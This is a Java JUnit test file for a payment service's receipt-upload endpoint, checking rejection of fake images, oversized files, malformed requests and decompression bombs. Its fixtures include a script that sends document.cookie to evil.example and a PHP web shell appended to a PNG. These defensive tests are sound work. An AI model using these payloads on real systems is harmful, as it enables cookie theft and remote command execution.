package dev.eshop.payment;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.client.RestTestClient.ResponseSpec;
import tools.jackson.databind.JsonNode;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What an upload must not get through (services.md §0.2, §5.3): content that is not really a JPEG, PNG or
 * WebP whatever its name and declared type (a renamed PDF, a script, a polyglot, a truncated image, a
 * header declaring more than 10000 px) → 415; more than 2 MB → 413; missing or malformed parts → 400.
 * None of them leaves anything behind: no row, no event, no S3 object. A decompression bomb within the
 * limits is thumbnailed with one subsampled decode (run with the default heap). Malformed list filters → 400.
 */
class BadUploadTest extends PaymentTestSupport {

    private static final UUID ALICE = UUID.randomUUID();

    @Test
    void contentThatIsNotARealImageIs415WhateverItsNameAndDeclaredType() throws IOException {
        UUID orderId = order(ALICE);
        byte[] valid = png(80, 60);
        byte[] pdf = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
        byte[] script = "<script>fetch('https://evil.example/?c=' + document.cookie)</script>".getBytes(StandardCharsets.UTF_8);
        byte[] polyglot = concat(valid, "<?php system($_GET['c']); ?>".getBytes(StandardCharsets.US_ASCII));
        byte[] truncated = Arrays.copyOf(valid, valid.length / 2);
        byte[] truncatedJpeg = Arrays.copyOf(jpeg(80, 60), 300);
        byte[] huge = pngDeclaring(10_001, 10_001);

        for (var upload : List.of(refuse(orderId, pdf, "receipt.jpg"), refuse(orderId, script, "receipt.png"),
                refuse(orderId, polyglot, "receipt.png"), refuse(orderId, truncated, "receipt.png"),
                refuse(orderId, truncatedJpeg, "receipt.jpg"), refuse(orderId, huge, "receipt.png"))) {
            refusedWithNothingStored(orderId, upload, 415).expectBody()
                    .jsonPath("$.type").isEqualTo(PROBLEMS + "unsupported-media-type")
                    .jsonPath("$.accepted").isArray()
                    .jsonPath("$.accepted[0]").isEqualTo("image/jpeg");
        }
        // Why, for two of them: the header's size is read before any decoding; bytes after PNG's IEND.
        refusedWithNothingStored(orderId, refuse(orderId, huge, "receipt.png"), 415).expectBody()
                .jsonPath("$.detail").isEqualTo("The image is 10001 x 10001 pixels; each side may be at most 10000 pixels.");
        refusedWithNothingStored(orderId, refuse(orderId, polyglot, "receipt.png"), 415).expectBody()
                .jsonPath("$.detail").value(String.class, detail -> assertThat(detail).contains("bytes after the end"));
        // A JSON body where a multipart form is expected.
        refusedWithNothingStored(orderId, () -> client.post().uri("/v1/payments").header(HttpHeaders.AUTHORIZATION, customer(ALICE))
                .contentType(MediaType.APPLICATION_JSON).body("{\"order_id\":\"" + orderId + "\"}").exchange(), 415);

        // The same order still takes a real image afterwards.
        upload(customer(ALICE), orderId, valid, "receipt.png").expectStatus().isCreated();
    }

    @Test
    void anImageOver2MegabytesIs413() {
        UUID orderId = order(ALICE);
        byte[] big = new byte[2 * 1024 * 1024 + 10];
        big[0] = (byte) 0xFF;
        big[1] = (byte) 0xD8;
        big[2] = (byte) 0xFF;

        refusedWithNothingStored(orderId, refuse(orderId, big, "big.jpg"), 413).expectBody()
                .jsonPath("$.type").isEqualTo(PROBLEMS + "payload-too-large")
                .jsonPath("$.max_bytes").isEqualTo(2 * 1024 * 1024);
        // Size is checked before the order is even looked up (§5.4).
        upload(customer(ALICE), UUID.randomUUID(), big, "big.jpg").expectStatus().isEqualTo(413);
    }

    @Test
    void missingOrMalformedPartsAre400() {
        UUID orderId = order(ALICE);
        byte[] valid = png(30, 30);

        refusedWithNothingStored(orderId, () -> upload(customer(ALICE), null, valid, "receipt.png"), 400).expectBody()
                .jsonPath("$.type").isEqualTo(PROBLEMS + "validation")
                .jsonPath("$.errors[0].field").isEqualTo("order_id");
        refusedWithNothingStored(orderId, () -> upload(customer(ALICE), orderId, null, "receipt.png"), 400).expectBody()
                .jsonPath("$.errors[0].field").isEqualTo("image");
        refusedWithNothingStored(orderId, () -> upload(customer(ALICE), orderId, new byte[0], "receipt.png"), 400).expectBody()
                .jsonPath("$.errors[0].field").isEqualTo("image");
        refusedWithNothingStored(orderId, () -> upload(customer(ALICE), "not-a-uuid", valid, "receipt.png", null, null), 400)
                .expectBody().jsonPath("$.type").isEqualTo(PROBLEMS + "malformed-request");
        refusedWithNothingStored(orderId, () -> upload(customer(ALICE), orderId.toString(), valid, "receipt.png", "x".repeat(501), null),
                400).expectBody().jsonPath("$.errors[0].field").isEqualTo("note");
        refusedWithNothingStored(orderId, () -> upload(customer(ALICE), orderId.toString(), valid, "receipt.png", null, "k".repeat(101)), 400)
                .expectBody().jsonPath("$.type").isEqualTo(PROBLEMS + "malformed-request");

        upload(customer(ALICE), orderId.toString(), valid, "receipt.png", "x".repeat(500), null).expectStatus().isCreated();
    }

    @Test
    void aDecompressionBombWithinTheLimitsIsThumbnailedWithoutDecodingItWhole() throws IOException {
        UUID orderId = order(ALICE);
        // 9000 x 9000 RGBA: 324 MB of pixels once decoded, a few hundred KB on the wire.
        byte[] bomb = emptyPng(9_000, 9_000);
        assertThat(bomb.length).isLessThan(2 * 1024 * 1024);
        long heap = Runtime.getRuntime().maxMemory();

        JsonNode payment = json(upload(customer(ALICE), orderId, bomb, "bomb.png").expectStatus().isCreated());

        byte[] thumbnail = get(customer(ALICE), payment.get("thumbnail_url").asString()).expectStatus().isOk()
                .expectBody(byte[].class).returnResult().getResponseBody();
        BufferedImage thumb = ImageIO.read(new ByteArrayInputStream(thumbnail));
        assertThat(Math.max(thumb.getWidth(), thumb.getHeight())).isEqualTo(320);
        assertThat(Runtime.getRuntime().maxMemory()).as("the default heap, unchanged").isEqualTo(heap);
    }

    @ParameterizedTest
    @ValueSource(strings = {"order_id=42", "from=2025-13-01", "to=yesterday", "from=2025-02-01&to=2025-01-31", "status=LOST",
            "sort=amount,desc", "sort=created_at,sideways", "size=0", "size=101", "page=-1"})
    void malformedListFiltersAre400(String query) {
        get(admin(), "/v1/payments?" + query).expectStatus().isBadRequest()
                .expectHeader().contentType("application/problem+json");
        get(customer(ALICE), "/v1/payments?" + query).expectStatus().isBadRequest();
    }

    @Test
    void malformedIdsInPathsAre400() {
        get(admin(), "/v1/payments/not-a-uuid").expectStatus().isBadRequest()
                .expectBody().jsonPath("$.type").isEqualTo(PROBLEMS + "malformed-request");
        get(admin(), "/v1/payments/not-a-uuid/image").expectStatus().isBadRequest();
        post(admin(), "/v1/payments/not-a-uuid/review", "{\"decision\":\"APPROVED\"}").expectStatus().isBadRequest();
    }

    // Helpers

    private Supplier<ResponseSpec> refuse(UUID orderId, byte[] bytes, String fileName) {
        return () -> upload(customer(ALICE), orderId, bytes, fileName);
    }

    /** Sends the upload, expects the status, and checks that no row, no event and no S3 object came of it. */
    private ResponseSpec refusedWithNothingStored(UUID orderId, Supplier<ResponseSpec> upload, int status) {
        List<String> objects = bucketKeys();
        int outbox = count("SELECT count(*) FROM outbox");
        ResponseSpec response = upload.get().expectStatus().isEqualTo(status);
        assertThat(count("SELECT count(*) FROM payments WHERE order_id = ?", orderId.toString())).isZero();
        assertThat(count("SELECT count(*) FROM outbox")).isEqualTo(outbox);
        assertThat(bucketKeys()).containsExactlyInAnyOrderElementsOf(objects);
        return response;
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    /** A tiny, well-formed PNG whose header declares this size (its pixels are never there). */
    private static byte[] pngDeclaring(int width, int height) throws IOException {
        ByteArrayOutputStream idat = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(idat)) {
            out.write(new byte[16]);
        }
        return png(width, height, 0, idat.toByteArray());
    }

    /** A fully transparent RGBA PNG of this size: every row zero bytes, deflated as it is written. */
    private static byte[] emptyPng(int width, int height) throws IOException {
        ByteArrayOutputStream idat = new ByteArrayOutputStream();
        byte[] row = new byte[1 + width * 4];
        try (DeflaterOutputStream out = new DeflaterOutputStream(idat, new Deflater(Deflater.BEST_COMPRESSION), 64 * 1024)) {
            for (int y = 0; y < height; y++) {
                out.write(row);
            }
        }
        return png(width, height, 6, idat.toByteArray());
    }

    private static byte[] png(int width, int height, int colorType, byte[] idat) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        ByteArrayOutputStream header = new ByteArrayOutputStream();
        DataOutputStream ihdr = new DataOutputStream(header);
        ihdr.writeInt(width);
        ihdr.writeInt(height);
        ihdr.writeByte(8);          // bit depth
        ihdr.writeByte(colorType);  // 0 grey, 6 RGBA
        ihdr.writeByte(0);          // deflate
        ihdr.writeByte(0);          // adaptive filtering
        ihdr.writeByte(0);          // no interlace
        chunk(out, "IHDR", header.toByteArray());
        chunk(out, "IDAT", idat);
        chunk(out, "IEND", new byte[0]);
        return bytes.toByteArray();
    }

    private static void chunk(DataOutputStream out, String type, byte[] data) throws IOException {
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        out.writeInt(data.length);
        out.write(name);
        out.write(data);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(data);
        out.writeInt((int) crc.getValue());
    }
}
